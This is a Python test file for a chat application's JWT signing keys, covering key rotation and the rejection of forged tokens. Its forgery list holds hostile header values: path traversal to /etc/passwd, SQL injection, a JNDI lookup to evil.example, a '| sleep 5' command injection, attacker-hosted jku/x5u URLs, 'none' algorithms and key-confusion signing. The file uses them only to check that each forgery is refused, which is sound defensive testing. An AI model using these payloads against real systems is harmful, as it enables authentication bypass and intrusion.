"""The key ring: which tokens are good, what a header may say, and that keys change without anybody noticing."""

from __future__ import annotations

import base64
import itertools
import json
import time
from collections.abc import Iterator
from typing import Any

import jwt
import pytest
from channels.testing import HttpCommunicator
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from django.test import Client
from rest_framework_simplejwt import tokens as before
from rest_framework_simplejwt.exceptions import TokenBackendError

from chat.signing_keys import derived_key, name_of, signing_keys
from chat.tokens import AccessToken, KeyRing, RefreshToken
from netra.testing import Netra, receive
from tests.chat.test_api_sessions import REFRESH, me, post, refused
from tests.chat.test_sessions import made, sign_in

A, B, C = ("a" * 40, "b" * 40, "c" * 40)


def header_of(token: Any) -> dict[str, Any]:
    return jwt.get_unverified_header(str(token))


# Keys


def test_own_keys_come_before_those_of_secret_keys_and_each_is_there_once() -> None:
    assert signing_keys([A, B, A], ["new", "old"]) == (A, B, derived_key("new"), derived_key("old"))
    assert signing_keys([], ["new"]) == (derived_key("new"),)
    assert signing_keys(["derived", A], ["new", "old"]) == (derived_key("new"), A, derived_key("old"))


def test_the_name_of_a_key_tells_nothing_of_it() -> None:
    names = {name_of(key) for key in (A, B, derived_key(A))}
    assert len(names) == 3
    assert all(len(name) == 16 and name not in A + B and A[:4] not in name for name in names)


def test_a_token_names_the_first_key(settings: Any) -> None:
    settings.TOKEN_KEYS = (A, B)
    for kind in (AccessToken, RefreshToken):
        token = str(kind())
        assert header_of(token) == {"alg": "HS256", "typ": "JWT", "kid": name_of(A)}
        assert jwt.decode(token, A, algorithms=["HS256"])["token_type"] == kind.token_type


ROTATION = [(A,), (A, B), (B, A), (B,)]


def test_a_key_is_replaced_in_steps_without_a_refusal() -> None:
    """Two processes, of which one is a step ahead, and back: each takes the tokens of the other."""
    for step, following in itertools.pairwise(ROTATION):
        for here, there in itertools.product((step, following), repeat=2):
            token = KeyRing(here).encode({"exp": time.time() + 60})
            assert KeyRing(there).decode(token)  # type: ignore[arg-type]  # annotated as a Token


def test_one_step_less_is_not_enough() -> None:
    token = KeyRing((B, A)).encode({"exp": time.time() + 60})
    with pytest.raises(TokenBackendError):
        KeyRing((A,)).decode(token)  # type: ignore[arg-type]  # as above


@pytest.mark.django_db
def test_a_changed_secret_key_signs_nobody_out(client: Client, settings: Any) -> None:
    made()
    settings.TOKEN_KEYS = signing_keys([], ["old"])
    tokens = sign_in(client).json()
    old = before.AccessToken.for_user(made("bob"))
    settings.TOKEN_KEYS = signing_keys([], ["new", "old"])
    assert me(client, tokens["access"]).status_code == 200
    renewed = post(client, REFRESH, {"refresh": tokens["refresh"]}).json()
    assert header_of(renewed["access"])["kid"] == name_of(derived_key("new"))
    settings.TOKEN_KEYS = signing_keys([], ["new"])
    assert me(client, renewed["access"]).status_code == 200
    for token in (tokens["access"], str(old)):
        refused(me(client, token), 401, "INVALID_TOKEN")


@pytest.mark.django_db
def test_tokens_of_before_name_no_key_and_are_good_under_any_of_the_ring(client: Client, settings: Any) -> None:
    claims = AccessToken.for_user(made()).payload
    settings.TOKEN_KEYS = (A, B)
    for key, code in ((A, 200), (B, 200), (C, 401)):
        assert me(client, jwt.encode(claims, key, "HS256")).status_code == code
    expired = jwt.encode(claims | {"exp": 1}, B, "HS256")
    refused(me(client, expired), 401, "TOKEN_EXPIRED")


# What is not of our making

KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)
PUBLIC = KEY.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
JWK = {"kty": "oct", "k": base64.urlsafe_b64encode(C.encode()).decode().rstrip("=")}
KIDS: list[Any] = [
    *("../../../../dev/null", "/etc/passwd", "https://evil.example/key", "file:///dev/null", "' OR 1=1 --"),
    *("' UNION SELECT 'cccccccc", "", "\x00", "none", "k" * 5000, "é", "${jndi:ldap://evil.example}", "| sleep 5"),
    *(["a"], [], {}, {"kid": "a"}, None, 0, 1, True, 1.5),
]
HEADERS: list[dict[str, Any]] = [
    {"jku": "https://evil.example/jwks.json"},
    {"x5u": "https://evil.example/certificate.pem"},
    {"jwk": JWK},
    {"x5c": ["MIIB"]},
    {"crit": ["exp"], "exp": 1},
    {"crit": ["b64"], "b64": True},
    {"crit": []},
    {"crit": "kid"},
    {"b64": False, "crit": ["b64"]},
    {"cty": "JWT"},
    {"zip": "DEF"},
]


def segment(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def signed(claims: dict[str, Any], key: Any, *, algorithm: str | None = "HS256", **header: Any) -> str:
    """A token with any header. `algorithm` is how it is signed; None: it is not."""
    whole = {"alg": algorithm, "typ": "JWT"} | header
    signing_input = f"{segment(whole)}.{segment(claims)}"
    if algorithm is None:
        return f"{signing_input}."
    made_by = jwt.get_algorithm_by_name(algorithm)
    signature = made_by.sign(signing_input.encode(), key if isinstance(key, bytes) else made_by.prepare_key(key))
    return f"{signing_input}.{base64.urlsafe_b64encode(signature).decode().rstrip('=')}"


def forgeries(claims: dict[str, Any], key: str) -> Iterator[tuple[str, str]]:
    """Name and token; each is what somebody tries, most of them signed with the server's own key."""
    for kid in KIDS:
        yield f"kid {kid!r}"[:40], signed(claims, key, kid=kid)
    for header in HEADERS:
        yield f"header {header}"[:40], signed(claims, key, kid=name_of(key), **header)
    yield "jwk, signed with it", signed(claims, C, jwk=JWK)
    for algorithm in ("none", "None", "NONE", "nOnE", "", None, ["HS256"], {"alg": "HS256"}, 256):
        yield f"unsigned, alg {algorithm!r}", signed(claims, None, algorithm=None, alg=algorithm)
        yield f"signed, alg {algorithm!r}", signed(claims, key, alg=algorithm)
    yield "kid of ours, unsigned", signed(claims, None, algorithm=None, alg="none", kid=name_of(key))
    yield "HS512 with our key", signed(claims, key, algorithm="HS512", kid=name_of(key))
    yield "HS384 that says HS256", signed(claims, key, algorithm="HS384", alg="HS256", kid=name_of(key))
    yield "RS256", signed(claims, KEY, algorithm="RS256")
    yield "RS256 with a kid of ours", signed(claims, KEY, algorithm="RS256", kid=name_of(key))
    yield "HS256 with a public key", signed(claims, PUBLIC)
    yield "the name of the key as the key", signed(claims, name_of(key), kid=name_of(key))
    yield "kid of ours, another key", signed(claims, C, kid=name_of(key))
    yield "another key and its name", signed(claims, C, kid=name_of(C))
    yield "an empty key", signed(claims, b"")
    whole = signed(claims, key, kid=name_of(key))
    yield "two headers", f"{whole.partition('.')[0]}.{whole}"
    yield "no signature", whole.rpartition(".")[0] + "."
    yield "a list for a header", f"{segment(['HS256'])}.{whole.partition('.')[2]}"
    yield "a deep header", f"{segment(json.loads('[' * 900 + ']' * 900))}.{whole.partition('.')[2]}"


@pytest.mark.django_db
def test_no_forgery_is_taken_over_rest(client: Client, settings: Any) -> None:
    """One after the other, so that the hasher of a sign-in runs once."""
    settings.TOKEN_KEYS = (A, B)
    ann = made()
    access, refresh = AccessToken.for_user(ann).payload, RefreshToken.for_user(ann).payload
    assert me(client, signed(access, A, kid=name_of(A))).status_code == 200, "or nothing below means anything"
    assert me(client, signed(access, B, kid=name_of(B))).status_code == 200
    found = dict(forgeries(access, A))
    assert len(found) >= 55
    for name, token in found.items():
        answer = me(client, token)
        assert (name, answer.status_code, answer.json()["error_code"]) == (name, 401, "INVALID_TOKEN")
    for name, token in forgeries(refresh, A):
        answer = post(client, REFRESH, {"refresh": token})
        assert (name, answer.status_code, answer.json()["error_code"]) == (name, 401, "INVALID_TOKEN")


async def test_no_forgery_opens_a_socket_or_a_stream(netra: Netra, settings: Any) -> None:
    settings.TOKEN_KEYS = (A, B)
    claims = AccessToken.for_user(await netra.user("ann")).payload
    for name, token in forgeries(claims, A):
        bearer = (b"authorization", f"Bearer {token}".encode())
        socket = netra.communicator(headers=[bearer])
        await socket.connect(timeout=5)
        error = await receive(socket)
        assert (name, error["error_code"]) == (name, "INVALID_TOKEN")
        assert (await socket.receive_output(timeout=5))["code"] == 4401
        headers = [bearer, (b"accept", b"text/event-stream"), (b"host", b"localhost")]
        stream = HttpCommunicator(netra.application, "GET", "/api/events", headers=headers)
        stream.scope["query_string"] = b""
        answer = await stream.get_response(timeout=5)
        assert (name, answer["status"], json.loads(answer["body"])["error_code"]) == (name, 401, "INVALID_TOKEN")
